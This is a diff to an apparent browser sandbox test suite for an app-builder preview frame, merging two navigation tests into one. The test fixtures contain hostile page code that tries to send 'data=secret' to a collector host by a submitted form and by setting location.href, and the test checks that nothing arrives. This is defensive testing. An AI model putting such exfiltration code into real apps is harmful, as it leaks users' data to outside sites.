@@ -17,7 +17,7 @@ import { openInFirefox } from './support/firefox.js';
 import type { Targets } from './support/hostile-app.js';
 import { hostileCode } from './support/hostile-app.js';
 import type { Browser, Page } from './support/shell.js';
-import { openAsAda, previewFrame, signInAsAda } from './support/shell.js';
+import { openAsAda, optionsOfAda, previewFrame } from './support/shell.js';
 
 const openToAll = JSON.stringify({
   properties: { text: { type: 'string' } },
@@ -202,40 +202,37 @@ export default function Home() { tried; return <h1>Harmless</h1>; }`,
     await tab.close();
   });
 
-  const departures: Readonly<Record<string, (address: string) => string>> = {
-    'by its address': (address) => `location.href = '${address}';`,
-    'by a form': (address) => `const form = document.createElement('form');
-      Object.assign(form, { action: '${address}', method: 'POST' });
-      document.body.append(form);
-      form.submit();`,
-  };
-  for (const [way, leave] of Object.entries(departures)) {
-    it(`cannot navigate the builder's frame to another site ${way}`, async () => {
-      const { app } = await host.newApp(
-        filesOf({
-          'pages/Home.jsx': `import { useEffect } from 'react';
+  it("cannot navigate the builder's frame to another site by a form or by its address", async () => {
+    const { app } = await host.newApp(
+      filesOf({
+        'pages/Home.jsx': `import { useEffect } from 'react';
 export default function Home() {
   useEffect(() => {
     console.log('Leaving');
-    setTimeout(() => { ${leave(`${collector.url}/left?data=secret`)} }, 1500);
+    setTimeout(() => {
+      const form = document.createElement('form');
+      Object.assign(form, { action: '${collector.url}/form?data=secret', method: 'POST' });
+      document.body.append(form);
+      form.submit();
+    }, 500);
+    setTimeout(() => { location.href = '${collector.url}/left?data=secret'; }, 1500);
   }, []);
   return <h1>Leaving</h1>;
 }`,
-        }),
-      );
-      // Not its text: a machine that is busy may look for it when the frame shows something else.
-      const isLeaving = builder.waitForEvent('console', (message) => message.text() === 'Leaving');
-      await openPreview(app.appId);
-      await isLeaving;
-      await builder.waitForTimeout(allDone);
-      expect([...collector.arrived]).to.deep.equal([]);
-    });
-  }
+      }),
+    );
+    // Not its text: a machine that is busy may look for it when the frame shows something else.
+    const isLeaving = builder.waitForEvent('console', (message) => message.text() === 'Leaving');
+    await openPreview(app.appId);
+    await isLeaving;
+    await builder.waitForTimeout(allDone);
+    expect([...collector.arrived]).to.deep.equal([]);
+  });
 
   it('has its own storage, separate from other apps and the platform', async () => {
-    const context = await browser.newContext();
+    const context = await browser.newContext(await optionsOfAda(host));
     const page = await context.newPage();
-    await signInAsAda(page, host);
+    await page.goto(`${host.url}/favicon.svg`);
     const onPlatform = await page.evaluate(() => Object.keys(localStorage));
     expect(onPlatform).to.not.deep.equal([]);
     // Before the page's own code, which may navigate at any time.
